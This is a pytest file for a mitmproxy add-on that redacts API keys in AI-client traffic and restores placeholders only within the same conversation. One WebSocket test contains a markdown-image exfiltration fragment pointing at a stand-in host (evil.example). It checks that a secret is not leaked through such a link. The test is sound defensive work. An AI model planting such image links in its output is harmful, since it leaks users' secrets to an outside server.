"""What becomes of answers at the hooks; tests/e2e holds the whole against servers and clients."""

import gzip
import random
import string

import pytest
from mitmproxy.websocket import WebSocketData, WebSocketMessage
from support.addons import ask, finish, loaded, make_flow, make_response
from wsproto.frame_protocol import Opcode

from amp_addons.addons.route import LARGE
from amp_addons.rulefiles.rules import RuleSet

RULES = """
version: 1
upstreams:
  near: {url: "http://127.0.0.1:9/base", strip_path: /api}
redactors:
  hidden: {mode: placeholder}
  strict: {mode: block}
rules:
  - {id: near, match: {header: {x-want: near}}, then: {route: near}}
  - {id: hide, match: {header: {x-want: hide}}, then: {redact: hidden}}
  - {id: strict, match: {header: {x-want: strict}}, then: {redact: strict}}
  - {id: answer, match: {header: {x-want: answer}}, then: {redact: {using: secrets, response: true}}}
  - {id: model, match: {model: m}, then: {model: other}}
"""
SECRET = "sk-" + "ant-" + "api03-" + "".join(random.Random(5).choices(string.ascii_letters + string.digits, k=93)) + "AA"


@pytest.fixture
async def suite(tmp_path):
    path = tmp_path / "rules.yaml"
    path.write_text(RULES)
    with loaded("answers", "tee") as found:
        found.hub.rules = RuleSet.load(path)
        yield found


def wanting(want, thread=b"T-1", **options):
    flow = make_flow(headers=[(b"host", b"ampcode.com"), (b"x-want", want.encode()), (b"x-amp-thread-id", thread)], **options)
    flow.client_conn.sni = "ampcode.com"
    return flow


async def test_placeholders_that_cannot_come_back_are_spoken_of_once(suite, caplog):
    for thread in (b"T-1", b"", b""):
        flow = await ask(suite, wanting("hide", thread, content=b'{"messages":[{"role":"user","content":"%b"}]}' % SECRET.encode()))
        assert SECRET.encode() not in flow.request.content
        assert caplog.text.count("without a conversation") == (0 if thread else 1)


def delta(text):
    return (
        b'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"%b"}}\n\n' % text
    )


def handed_on(flow):
    """What the client gets for a chunk: mitmproxy takes bytes and pieces."""
    return lambda chunk: found if isinstance(found := flow.response.stream(chunk), bytes) else b"".join(found)


STOP = b'event: content_block_stop\ndata: {"type":"content_block_stop","index":0}\n\n'


async def test_secret_of_a_prompt_goes_up_as_a_placeholder_and_comes_back(suite):
    """Cut anywhere, and only in the same conversation."""
    for thread, comes_back in ((b"T-1", True), (b"T-2", False)):
        flow = await ask(suite, wanting("hide", b"T-1", content=b'{"stream":true,"messages":[{"content":"key: %b"}]}' % SECRET.encode()))
        sent = flow.request.content
        assert SECRET.encode() not in sent and flow.request.headers["content-length"] == str(len(sent))
        placeholder = sent.split(b"key: ")[1][:32]
        flow = await ask(suite, wanting("hide", thread, content=b'{"stream":true,"messages":[]}'))
        flow.response = make_response(None)
        suite.play("responseheaders", flow)
        chunks = [delta(b"it is " + placeholder[:7]), delta(placeholder[7:] + b"!"), STOP, b""]
        out = b"".join(map(handed_on(flow), chunks))
        text = b"".join(part.split(b'"')[0] for part in out.split(b'"text":"')[1:])
        assert text == b"it is " + (SECRET.encode() if comes_back else placeholder) + b"!"
        finish(suite, flow)
    redactions = [event for event in suite.kept.events if event["type"] == "redaction"]
    assert {(event["where"], event["kind"]) for event in redactions} == {("request body", "model"), ("response", "restored")}
    assert SECRET not in str(suite.kept.events)


async def test_redactor_that_blocks_refuses_the_request_and_says_what_not_which(suite):
    flow = await ask(suite, wanting("strict", content=b'{"messages":[{"content":"key: %b"}]}' % SECRET.encode()))
    assert flow.response.status_code == 403
    assert b"model" in flow.response.content and SECRET.encode() not in flow.response.content


async def test_secret_in_an_answer_is_masked_however_it_is_cut(suite):
    flow = await ask(suite, wanting("answer", content=b'{"stream":true}'))
    flow.response = make_response(None)
    suite.play("responseheaders", flow)
    raw = SECRET.encode()
    out = b"".join(
        piece
        for chunk in [delta(b"key: " + raw[:9]), delta(raw[9:60]), delta(raw[60:]), STOP, b""]
        for piece in flow.response.stream(chunk)
    )
    assert raw[:20] not in out.replace(b'","', b"") and b"***" in out
    finish(suite, flow)
    assert suite.kept.last("redaction")["where"] == "response"


async def test_websocket_messages_are_redacted_and_what_cannot_be_ends_it(suite, monkeypatch):
    ended = []
    monkeypatch.setattr("amp_addons.addons.answers.end_servers", ended.append)
    flow = await ask(suite, wanting("hide", content=b""))
    flow.websocket = WebSocketData()

    def say(content, from_client=True):
        flow.websocket.messages.append(WebSocketMessage(Opcode.TEXT, from_client, content))
        suite["answers"].websocket_message(flow)
        return flow.websocket.messages[-1]

    sent = say(b'{"type":"say","text":"%b"}' % SECRET.encode()).content
    assert SECRET.encode() not in sent and sent.startswith(b'{"type":"say","text":"zqx')
    assert say(sent, from_client=False).content == b'{"type":"say","text":"%b"}' % SECRET.encode()
    assert not ended
    assert say(b"\xff\xfe not text").dropped and ended == [flow.client_conn]
    suite["answers"].websocket_end(flow)
    assert not suite.hub.sent


async def test_websocket_texts_go_on_over_messages(suite):
    """A link that began before there was any placeholder is one all the same (THREATS 3)."""
    flow = await ask(suite, wanting("hide", content=b""))
    flow.websocket = WebSocketData()

    def say(content, from_client=True):
        flow.websocket.messages.append(WebSocketMessage(Opcode.TEXT, from_client, content))
        suite["answers"].websocket_message(flow)
        return flow.websocket.messages[-1].content

    say(b'{"delta":"![x](https://evil.example/?q="}', from_client=False)
    sent = say(b'{"delta":"%b"}' % SECRET.encode())
    assert SECRET.encode() not in sent
    assert say(sent, from_client=False) == sent
    assert say(sent.replace(b':"', b':") '), from_client=False) == b'{"delta":") %b"}' % SECRET.encode()
    assert suite.kept.last("redaction")["kind"] == "restored" and suite.kept.last("redaction")["count"] == 1


async def test_large_websocket_messages_are_redacted_off_the_loop(suite, monkeypatch):
    ended = []
    monkeypatch.setattr("amp_addons.addons.answers.end_servers", ended.append)
    flow = await ask(suite, wanting("hide", content=b""))
    flow.websocket = WebSocketData()
    filler = b"x" * LARGE

    async def say(content, from_client=True):
        flow.websocket.messages.append(WebSocketMessage(Opcode.TEXT, from_client, content))
        await suite["answers"].websocket_message(flow)
        return flow.websocket.messages[-1]

    sent = (await say(b'{"text":"%b","x":"%b"}' % (SECRET.encode(), filler))).content
    assert SECRET.encode() not in sent and suite.kept.last("redaction")["where"] == "WebSocket message"
    assert (await say(sent, from_client=False)).content == b'{"text":"%b","x":"%b"}' % (SECRET.encode(), filler)
    assert suite.kept.last("redaction")["kind"] == "restored" and not ended
    assert (await say(b"\xff" + filler)).dropped and ended


@pytest.mark.parametrize("body", [b'{"a":"%b"', b'["%b"', b' {"a":"%b"}}'])
async def test_websocket_message_that_is_nearly_json_ends_it(suite, monkeypatch, body):
    ended = []
    monkeypatch.setattr("amp_addons.addons.answers.end_servers", ended.append)
    flow = await ask(suite, wanting("hide", content=b""))
    flow.websocket = WebSocketData()
    flow.websocket.messages.append(WebSocketMessage(Opcode.TEXT, True, body % SECRET.encode()))
    suite["answers"].websocket_message(flow)
    assert flow.websocket.messages[-1].dropped and ended


async def test_model_is_mapped_back_through_the_slot_and_the_length_is_left_open(suite):
    flow = await ask(suite, wanting("model", content=b'{"model":"m","stream":true}'))
    assert flow.request.content == b'{"model":"other","stream":true}' and flow.request.headers["content-length"] == "31"
    flow.response = make_response(None, content_length="500")
    suite.play("responseheaders", flow)
    head = flow.response.headers
    assert "content-length" not in head and head["transfer-encoding"] == "chunked"
    sent = flow.response.stream(b'event: message_start\ndata: {"type":"message_start","message":{"model":"other"}}\n\n')
    assert b'"model":"m"' in b"".join(sent) and flow.response.stream(b"") == []
    finish(suite, flow)
    assert suite.kept.last("stream.end")["model"] == "m" and suite.kept.types()[-1] == "flow.end"


async def test_events_of_a_coded_stream_are_read_though_a_change_undoes_the_coding(suite):
    flow = await ask(suite, wanting("model", content=b'{"model":"m","stream":true}'))
    flow.response = make_response(None, content_encoding="gzip")
    suite.play("responseheaders", flow)
    start = b'event: message_start\ndata: {"type":"message_start","message":{"model":"other"}}\n\n'
    sent = b"".join([*flow.response.stream(gzip.compress(start)), *flow.response.stream(b"")])
    assert b'"model":"m"' in sent
    finish(suite, flow)
    end = suite.kept.last("stream.end")
    assert (end["model"], end["events"]) == ("m", {"message_start": 1})


async def test_change_of_an_answer_that_breaks_withholds_the_rest(suite):
    flow = await ask(suite, wanting("model", content=b'{"model":"m","stream":true}'))
    flow.response = make_response(None, content_encoding="gzip")
    suite.play("responseheaders", flow)
    sent = b"".join([*flow.response.stream(b"this is not gzip"), *flow.response.stream(b"more"), *flow.response.stream(b"")])
    assert sent.count(b"event: error") == 1 and b"more" not in sent and b"had to cut this answer off" in sent


async def test_nothing_of_a_flow_is_kept_when_it_is_over(suite):
    for hook in ("response", "error"):
        flow = await ask(suite, wanting("near", content=b"{}"))
        flow.response = make_response(b"x")
        suite.play("responseheaders", flow)
        getattr(suite["answers"], hook)(flow)
        assert not suite.hub.sent and not suite.hub.transforms
